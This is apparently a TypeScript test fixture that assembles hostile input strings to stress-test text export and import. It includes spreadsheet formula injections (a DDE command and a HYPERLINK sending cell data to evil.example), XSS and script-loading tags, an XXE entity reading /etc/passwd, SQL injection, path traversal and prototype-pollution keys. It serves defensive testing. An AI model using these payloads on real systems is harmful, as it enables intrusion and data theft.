import { hostileTexts, lostTexts } from "./records";

/** Two hundred and more texts that do harm somewhere, made by kind: a failing one stands for its kind. */

const formulas = ["=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "'=", "＝", "＋", "－", "＠", "\u00a0=", "\ufeff=", "\u200b="].flatMap((sign) => [
  `${sign}1+1`,
  `${sign}cmd|' /C calc'!A0`,
  `${sign}HYPERLINK("http://evil.example/?"&A1,"x")`,
]);
const controls = [...Array.from({ length: 32 }, (_, i) => i), 0x7f, 0x80, 0x85, 0x9f, 0xfffe, 0xffff].map(
  (code) => `前${String.fromCharCode(code)}后`,
);
const surrogates = ["\ud800", "\udfff", "\ud800\ud800", "\udc00\ud800", "a\udbff", "\ud83d基层", "基层\udc69"];
const bidi = ["\u200e", "\u200f", "\u202a", "\u202b", "\u202c", "\u202d", "\u202e", "\u2066", "\u2067", "\u2068", "\u2069", "\u061c"].map(
  (sign) => `基层${sign}gnihtemos <b>`,
);
const unseen = [
  "\u00ad",
  "\u034f",
  "\u115f",
  "\u1160",
  "\u180e",
  "\u2028",
  "\u2029",
  "\u2060",
  "\u3164",
  "\ufe0f",
  "\ufff9x\ufffay\ufffb",
  "\u{e0041}",
].map((sign) => `x${sign}y`);
const markup = [
  "]]>",
  "]]]]><![CDATA[>",
  "<script>alert(1)</script>",
  "</script><script>alert(1)</script>",
  "<SCRIPT SRC=//evil.example></SCRIPT>",
  '<img src=x onerror="alert(1)">',
  "<svg/onload=alert(1)>",
  "<iframe srcdoc='<script>1</script>'>",
  '" onmouseover="alert(1)',
  "' onfocus='alert(1)' autofocus='",
  "--><script>1</script><!--",
  "<!--<!-- --",
  "<?php echo 1 ?>",
  "<?xml-stylesheet href='http://evil.example'?>",
  "<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]>&b;",
  "&lt;script&gt;",
  "&#x3c;script&#x3e;",
  "&#0;&#xD800;&#x110000;",
  "&nbsp;&bogus;&",
  "</w:t></w:r></w:p>",
  "</seg></tuv></tu>",
  "</term></termSec>",
  "<w:instrText>INCLUDETEXT</w:instrText>",
  "{=1+1}",
  "_x0041_ _x000D_ _x005F_",
];
const ofFormats = [
  "a\tb\tc",
  "a\nb\r\nc\rd",
  "\uEAB1\uEAB2",
  "//Category/Sub",
  "#separator:comma",
  "[[sound:x]]",
  "[sound:../../x.mp3]",
  "{{c1::x::y}}",
  "{{#Front}}{{/Front}}",
  "{{FrontSide}}",
  "\u001f",
  "<div>\u001f</div>",
  '"a""b"',
  '"unclosed',
  "a,b;c|d",
  "\\;\\[\\]\\(\\)\\",
  "(((((",
  "[a: b] (c)",
  '{}[]:,"\\/',
  "'; DROP TABLE notes; --",
  "%00%0a%0d",
  "..\\..\\windows",
  "file:///etc/passwd",
  "data:text/html,<script>1</script>",
  "javascript:alert(1)",
  "vbscript:x",
  "http://[::1]:99999/",
];
const names = [
  "__proto__",
  "constructor",
  "prototype",
  "toString",
  "hasOwnProperty",
  "valueOf",
  "null",
  "undefined",
  "NaN",
  "true",
  "",
  " ",
  "0",
  "-0",
];
const long = [
  "长".repeat(32_767),
  "x".repeat(20_000),
  "x y ".repeat(8000),
  "\u0301".repeat(500),
  "(".repeat(5000),
  "\\".repeat(9999),
  "<".repeat(9999),
  "😀".repeat(9000),
];

export const hostile: readonly string[] = [
  ...new Set([
    ...formulas,
    ...controls,
    ...surrogates,
    ...bidi,
    ...unseen,
    ...markup,
    ...ofFormats,
    ...names,
    ...long,
    ...hostileTexts,
    ...lostTexts,
  ]),
];
